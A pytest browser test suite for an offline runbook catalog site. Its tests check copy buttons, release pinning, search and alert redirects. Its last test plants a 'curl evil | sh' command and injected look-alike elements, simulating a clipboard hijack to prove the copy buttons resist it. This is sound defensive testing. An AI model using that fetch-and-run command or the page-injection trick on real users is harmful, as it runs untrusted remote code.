"""The catalog site in headless Chromium, opened from ``file://`` (issue 3, "Must show").

Expected bytes always come from the signed manifests in the releases folder
(``releases/<version>/manifest.json``), never from the HTML under test. Every tab is
watched by ``conftest.SitePage``: a request outside the site folder, a console error, a
page error or a dialog fails the test that opened it.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest

from tests.browser import harness
from tests.browser.harness import (
    CONSOLE,
    BuiltSite,
    SitePage,
    check_snippets,
    run_command,
    scan,
)
from verifier import sitelayout as layout

pytestmark = pytest.mark.browser


def test_every_copy_button_yields_the_signed_bytes(demo_page: SitePage) -> None:
    """Every snippet of every runbook's latest page, both copy buttons, against the manifest."""
    site = demo_page.site
    head = site.manifest(site.head)
    checked, bad = 0, []
    consoles = 0
    for rb in head["runbooks"]:
        slug = rb["slug"]
        demo_page.open(f"runbooks/{slug}/latest.html")
        demo_page.page.wait_for_url(site.url(f"runbooks/{slug}/r{rb['revision']}.html"))
        # The latest page leads to the revision page, rendered once for the release that
        # first signed this content; viewed as "the runbook now", its commands pin the head.
        release = demo_page.page.locator(".sb-page").get_attribute("data-release")
        assert release in site.versions, f"{slug}: page names release {release!r}"
        assert site.runbook(release, slug)["digest"] == rb["digest"], f"{slug}: not the head text"
        n, problems = check_snippets(demo_page, slug, site.head)
        checked += n
        bad += problems
        consoles += sum(s["language"] in CONSOLE for s in rb["snippets"])
    total = sum(len(rb["snippets"]) for rb in head["runbooks"])
    assert not bad, "\n".join(bad)
    assert checked == total > 50
    assert consoles > 0, (
        "the sample catalog has no console block: the commands-only rule went unchecked"
    )


def test_release_pages_pin_their_own_release(demo_page: SitePage) -> None:
    """A runbook as of each release (alias pages): copies and commands pinned to that release."""
    site = demo_page.site
    changed = "hosts/disk-full"
    bad = []
    for version in site.versions:
        for slug in (changed, "auth/login-outage"):
            demo_page.open(layout.alias_page(version, slug))
            assert demo_page.page.locator(".sb-page").get_attribute("data-release") == version
            _, problems = check_snippets(demo_page, slug, version)
            bad += problems
    assert not bad, "\n".join(bad)
    old, new = (site.runbook(v, changed)["digest"] for v in site.versions)
    assert old != new, "the demo's second release should change hosts/disk-full"


def test_search_for_an_alert_name_lists_its_runbook(demo_page: SitePage) -> None:
    """Material's search box, typed into like a user: an alert name finds its runbook."""
    site = demo_page.site
    wanted = []
    for rb in site.manifest(site.head)["runbooks"]:
        for alert in rb["metadata"].get("alerts", []):
            # An alert name that is neither in the slug nor the title: found via the alerts only.
            if alert.lower() not in (rb["slug"] + rb["title"]).lower():
                wanted.append((alert, rb))
                break
    assert len(wanted) >= 3
    demo_page.open("index.html")
    box = demo_page.page.locator("input[data-md-component=search-query]")
    for alert, rb in wanted[:4]:
        target = f"runbooks/{rb['slug']}/r{rb['revision']}.html"
        box.click()
        box.fill("")
        box.press_sequentially(alert, delay=5)
        result = demo_page.page.locator(
            "[data-md-component=search-result] a.md-search-result__link"
        ).filter(has_text=rb["title"])
        try:
            result.first.wait_for(state="visible", timeout=5_000)
        except Exception as exc:
            raise AssertionError(f"search for {alert!r} lists no {rb['title']!r}") from exc
        links = [
            site.path_of(demo_page.page.evaluate("(a) => a.href", handle))
            for handle in result.element_handles()
        ]
        assert target in links, f"search for {alert!r} lists {links}, not {target}"
    # Follow the last result (material adds ?h=<term> to highlight it): it opens the runbook.
    result.first.click()
    demo_page.page.wait_for_url(lambda url: site.path_of(url) == target)
    assert demo_page.page.locator(".sb-page").get_attribute("data-slug") == rb["slug"]


def test_alert_pages_reach_their_runbook(demo_page: SitePage) -> None:
    """``alerts/<name>.html`` for every alert of the head release leads to its runbook page."""
    site = demo_page.site
    owners: dict[str, list[dict[str, Any]]] = {}
    for rb in site.manifest(site.head)["runbooks"]:
        for alert in rb["metadata"].get("alerts", []):
            owners.setdefault(alert, []).append(rb)
    assert len(owners) > 10
    bad = []
    for alert, rbs in sorted(owners.items()):
        targets = {site.url(f"runbooks/{rb['slug']}/r{rb['revision']}.html") for rb in rbs}
        demo_page.open(f"alerts/{alert}.html")
        if len(rbs) == 1:
            try:  # one runbook: the meta refresh takes the on-call engineer straight there
                demo_page.page.wait_for_url(targets.pop(), wait_until="commit", timeout=5_000)
            except Exception as exc:  # noqa: BLE001 - collected and reported below
                bad.append(f"{alert}: no redirect to {rbs[0]['slug']} ({exc})")
            continue
        links = demo_page.page.locator("a.sb-alert-target")
        hrefs = {demo_page.page.evaluate("(a) => a.href", h) for h in links.element_handles()}
        if hrefs != targets:
            bad.append(f"{alert}: links {sorted(hrefs)}, expected {sorted(targets)}")
            continue
        links.first.click()
        demo_page.page.wait_for_load_state("load")
        if demo_page.page.url not in targets:
            bad.append(f"{alert}: the link led to {demo_page.page.url}")
    assert not bad, "\n".join(bad)


def _choose(tab: SitePage, version: str) -> None:
    select = tab.page.locator("select.sb-version-select")
    options = select.locator("option")
    for i in range(options.count()):
        if (options.nth(i).text_content() or "").startswith(f"{version} "):
            value = options.nth(i).get_attribute("value")
            with tab.page.expect_navigation():
                select.select_option(value=value)
            return
    raise AssertionError(f"no option for release {version}: {options.all_text_contents()}")


def _selected(tab: SitePage) -> str:
    select = tab.page.locator("select.sb-version-select")
    return str(select.evaluate("(s) => s.options[s.selectedIndex].textContent"))


@pytest.mark.parametrize("slug", ["hosts/disk-full", "auth/login-outage"])
def test_version_switcher_lands_on_the_same_runbook(demo_page: SitePage, slug: str) -> None:
    """Choosing a release shows the same runbook as that release signed it, offline."""
    site = demo_page.site
    old, head = site.versions[0], site.head
    revision = site.runbook(head, slug)["revision"]
    demo_page.open(f"runbooks/{slug}/latest.html")
    demo_page.page.wait_for_url(site.url(f"runbooks/{slug}/r{revision}.html"))
    # Arriving from "latest", the switcher shows a release that signed this very revision.
    shown = _selected(demo_page).split(" ")[0]
    assert site.runbook(shown, slug)["revision"] == revision, _selected(demo_page)
    for version in (old, head):
        _choose(demo_page, version)
        signed = site.runbook(version, slug)
        page = demo_page.page.locator(".sb-page")
        assert demo_page.current() == f"runbooks/{slug}/r{signed['revision']}.html"
        assert page.get_attribute("data-slug") == slug
        assert page.get_attribute("data-digest") == signed["digest"]
        assert _selected(demo_page).startswith(f"{version} ")
        ids = demo_page.page.locator("figure.sb-snippet").evaluate_all(
            "(fs) => fs.map((f) => f.dataset.snippetId + ' ' + f.dataset.digest)"
        )
        assert ids == [f"{s['id']} {s['digest']}" for s in signed["snippets"]]
        # The chosen release's view: its commands are pinned to that release.
        runs = demo_page.page.locator("code.sb-run").all_text_contents()
        assert runs and all(r.startswith(f"sealbook run {slug}@{version} ") for r in runs), runs


def page_kind(path: str) -> str:
    """A page's template kind, from its path (``runbooks/a/b/r2.html`` -> ``runbooks/*/r*``)."""
    top, _, rest = path.partition("/")
    name = rest.rsplit("/", 1)[-1]
    if top == "runbooks":
        return "runbooks/*/" + re.sub(r"\d+", "*", name)
    if top in ("versions", "releases"):
        return f"{top}/*/" + ("index" if name == "index.html" else "runbooks/*")
    return top if rest else path


def test_no_request_leaves_the_site(demo_page: SitePage) -> None:
    """Pages of every kind, loaded from file:// and searched: all requests stay inside the site.

    Every tab of every test is watched the same way; this test covers the kinds no other
    test opens (releases, audit, diffs, 404) and shows the log is live.
    """
    site = demo_page.site
    kinds: dict[str, list[str]] = {}
    for path in site.pages():
        kinds.setdefault(page_kind(path), []).append(path)
    assert {
        "index.html",
        "releases.html",
        "audit.html",
        "alerts",
        "runbooks/*/diff-r*-r*.html",
    } <= set(kinds), sorted(kinds)
    seen: set[str] = set()
    for paths in kinds.values():
        for path in paths[:2]:
            demo_page.open(path)
            demo_page.page.wait_for_load_state("load")
            seen.update(p for p in map(site.path_of, demo_page.watch.requests) if p)
    demo_page.open("index.html")
    box = demo_page.page.locator("input[data-md-component=search-query]")
    box.click()
    box.press_sequentially("postgres", delay=5)
    demo_page.page.locator("a.md-search-result__link").first.wait_for(state="visible")
    for needed in ("assets/versions.js", "assets/sealbook/sealbook.js", "search/search_index.js"):
        assert needed in seen, f"{needed} never loaded: is the request log live?"
    assert not demo_page.watch.outside(), demo_page.watch.outside()


def test_copy_buttons_work_from_the_keyboard(demo_page: SitePage) -> None:
    """Enter and Space on a focused copy button copy the same exact bytes as a click."""
    site = demo_page.site
    slug = "hosts/disk-full"
    demo_page.open(f"runbooks/{slug}/latest.html")
    demo_page.page.wait_for_url("**/r2.html")
    release = site.head
    snippet = next(s for s in site.runbook(release, slug)["snippets"] if s["executable"])
    figure = demo_page.page.locator(f'figure.sb-snippet[data-snippet-id="{snippet["id"]}"]')
    assert demo_page.copied(figure.locator("button.sb-copy"), key="Enter") == snippet["text"][:-1]
    run = demo_page.copied(figure.locator("button.sb-copy-run"), key="Space")
    assert run == run_command(slug, release, snippet)


def test_nothing_in_the_site_points_outside_it(demo_site: BuiltSite) -> None:
    """Static half of the offline check, for what a request log may not show (preconnects,
    unused fonts): every script, stylesheet and refresh of every page is a file of the site,
    no inline script or handler; stylesheets load nothing from elsewhere."""
    problems = []
    for page in demo_site.pages():
        problems += scan(demo_site, page, (demo_site.root / page).read_text("utf-8")).problems
    for css in demo_site.root.rglob("*.css"):
        text = css.read_text("utf-8")
        for url in re.findall(r"url\(\s*['\"]?([^'\")]*)", text):
            if not url.startswith("data:") and not (css.parent / url.split("#")[0]).is_file():
                problems.append(f"{css.relative_to(demo_site.root)}: url({url})")
        if "@import" in text:
            problems.append(f"{css.relative_to(demo_site.root)}: @import")
    assert not problems, "\n".join(problems)


def test_the_watch_sees_requests_that_leave(demo_page: SitePage) -> None:
    """Control: the request log catches http(s) and file:// paths outside the site."""
    demo_page.page.set_content(
        '<img src="https://example.invalid/a.png"><img src="file:///etc/hostname">'
    )
    demo_page.page.wait_for_timeout(200)
    outside = demo_page.watch.outside()
    assert "https://example.invalid/a.png" in outside
    assert "file:///etc/hostname" in outside
    demo_page.watch.requests.clear()
    demo_page.watch.console_errors.clear()  # the aborted image logs an error; expected here


def test_screenshot_of_a_runbook_page(demo_page: SitePage, tmp_path: Path) -> None:
    """A runbook page renders readably: DEV banner, provenance panel, copy buttons visible."""
    demo_page.open("runbooks/hosts/disk-full/latest.html")
    demo_page.page.wait_for_url("**/r2.html")
    summary = "details.sb-provenance-box > summary.sb-provenance-summary"
    for selector in (".sb-banner--dev", summary, "button.sb-copy", "code.sb-run"):
        assert demo_page.page.locator(selector).first.is_visible(), f"{selector} not visible"
    # Code reads left-aligned (material centres <figure> content by default).
    aligns = demo_page.page.locator("figure.sb-snippet pre, code.sb-run").evaluate_all(
        "(els) => els.map((e) => getComputedStyle(e).textAlign)"
    )
    assert aligns and set(aligns) <= {"left", "start"}, aligns
    top, snippet = tmp_path / "runbook-top.png", tmp_path / "runbook-snippet.png"
    demo_page.page.screenshot(path=str(top))
    demo_page.page.locator("figure.sb-snippet").first.scroll_into_view_if_needed()
    demo_page.page.screenshot(path=str(snippet))
    for shot in (top, snippet):
        assert shot.stat().st_size > 10_000
        print(f"screenshot: {shot}")


def test_missing_chromium_skips_unless_ci_requires_it(monkeypatch: pytest.MonkeyPatch) -> None:
    """No /usr/bin/chromium: skip locally; fail when SEALBOOK_REQUIRE_BROWSER=1 (.ci/run)."""
    monkeypatch.setattr(harness, "CHROMIUM", Path("/nonexistent/chromium"))
    monkeypatch.delenv(harness.REQUIRE_ENV, raising=False)
    with pytest.raises(pytest.skip.Exception, match="chromium"):
        harness.require_chromium()
    monkeypatch.setenv(harness.REQUIRE_ENV, "1")
    with pytest.raises(pytest.fail.Exception, match="SEALBOOK_REQUIRE_BROWSER=1"):
        harness.require_chromium()


EVIL = "curl evil | sh"

# Plants what an attacker who can write into the page would, for the snippet figure `id`:
# at the start of <body>, a <template id="sb-copy-<id>"> and a <code id="sb-run-<id>">
# (the ids the old `data-copy-target` lookup used), both buttons' data-copy-target
# pointed at them, and look-alike `.sb-run-line > code.sb-run` and `template.sb-copy-text`
# that are not direct children of the figure: one set wrapped in a <div> first inside the
# figure, one set just before it. Returns what the old lookup would now answer.
PLANT_JS = """([id, evil]) => {
  const template = (attrs) => {
    const t = document.createElement("template");
    Object.entries(attrs).forEach(([k, v]) => t.setAttribute(k, v));
    t.content.appendChild(document.createTextNode(evil));
    return t;
  };
  const code = (attrs) => {
    const c = document.createElement("code");
    Object.entries(attrs).forEach(([k, v]) => c.setAttribute(k, v));
    c.textContent = evil;
    return c;
  };
  const lookAlikes = () => {
    const box = document.createElement("div");
    const line = document.createElement("div");
    line.className = "sb-run-line";
    line.appendChild(code({ class: "sb-run" }));
    box.appendChild(line);
    box.appendChild(template({ class: "sb-copy-text" }));
    return box;
  };
  const figure = document.querySelector(`figure.sb-snippet[data-snippet-id="${id}"]`);
  document.body.prepend(
    template({ id: `sb-copy-${id}`, class: "sb-copy-text" }),
    code({ id: `sb-run-${id}`, class: "sb-run" }),
  );
  figure.querySelector("button.sb-copy").setAttribute("data-copy-target", `sb-copy-${id}`);
  figure.querySelector("button.sb-copy-run").setAttribute("data-copy-target", `sb-run-${id}`);
  figure.prepend(lookAlikes());
  figure.before(lookAlikes());
  return [...figure.querySelectorAll("button.sb-copy, button.sb-copy-run")].map((b) => {
    const el = document.getElementById(b.getAttribute("data-copy-target"));
    return el.tagName === "TEMPLATE" ? el.content.textContent : el.textContent;
  });
}"""


def test_copy_comes_from_the_buttons_own_figure_never_a_planted_element(
    demo_page: SitePage,
) -> None:
    """A button copies its own figure's direct template / run line: an element planted with
    the old target ids earlier in the page, data-copy-target pointed at it, or look-alikes
    nested in or placed next to the figure never supply the copied text."""
    site = demo_page.site
    slug = "hosts/disk-full"
    demo_page.open(f"runbooks/{slug}/latest.html")
    demo_page.page.wait_for_url("**/r2.html")
    release = site.head
    snippet = next(s for s in site.runbook(release, slug)["snippets"] if s["executable"])
    sid = snippet["id"]
    old_lookup = demo_page.page.evaluate(PLANT_JS, [sid, EVIL])
    # Control: the plant is live, i.e. the old document.getElementById(data-copy-target)
    # lookup would now hand the attacker's text to both buttons.
    assert old_lookup == [EVIL, EVIL], old_lookup
    assert demo_page.page.locator(f"#sb-copy-{sid}, #sb-run-{sid}").count() == 2
    figure = demo_page.page.locator(f'figure.sb-snippet[data-snippet-id="{sid}"]')
    assert figure.locator("template.sb-copy-text").count() == 2  # own + nested look-alike
    assert figure.locator("code.sb-run").count() == 2
    copied = demo_page.copied(figure.locator("button.sb-copy"))
    run = demo_page.copied(figure.locator("button.sb-copy-run"))
    assert "evil" not in copied and "evil" not in run, (copied, run)
    assert copied == snippet["text"][:-1]
    assert run == run_command(slug, release, snippet)
